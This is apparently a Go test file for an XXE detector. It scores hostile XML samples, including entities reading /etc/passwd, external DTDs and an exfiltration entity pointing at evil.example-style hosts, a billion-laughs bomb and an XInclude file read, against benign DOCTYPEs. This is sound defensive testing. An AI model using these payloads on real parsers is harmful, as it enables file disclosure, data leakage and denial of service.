package injection

import (
	"strings"
	"testing"
)

func TestXXE(t *testing.T) {
	bomb := `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
		`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`
	runDetectCases(t, "xxe", []detectCase{
		{"system entity", `DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]`, XMLDirective, 0, scoreStrong},
		{"public entity", `<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "http://evil.example/e">]>`, Text, 0, scoreStrong},
		{"parameter entity", `DOCTYPE x [<!ENTITY % p "<!ENTITY exfil SYSTEM 'http://x/?%d;'>"> %p;]`, XMLDirective, 0, scoreStrong},
		{"external dtd", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>`, Text, 0, scoreStrong},
		{"billion laughs", bomb, Text, 0, scoreStrong},
		{"parameter reference", `DOCTYPE data [ %remote; ]`, XMLDirective, 0, scoreLikely},
		{"xinclude", `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>`, Text, 0, scoreStrong},
		{"internal entity at high", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`, Text, High, scoreWeak},
		// Benign.
		// Benign directives, as the XML inspector hands them over.
		{"html doctype", "DOCTYPE html", XMLDirective, 0, 0},
		{"xhtml doctype", `DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"`, XMLDirective, 0, 0},
		{"internal entity", `DOCTYPE x [<!ENTITY a "b">]`, XMLDirective, 0, 0},
		{"prose entity word", "the entity system is public", Text, 0, 0},
	})
	if strings.Count(bomb, "&") < bombMinReferences {
		t.Fatal("bomb fixture too small")
	}
}

func FuzzXXE(f *testing.F) {
	fuzzDetector(f, &xxeDetector, `<!ENTITY x SYSTEM "a">`, "<!DOCTYPE x SYSTEM", "ENTITY % p", "entityentityentity", "xi:include")
}
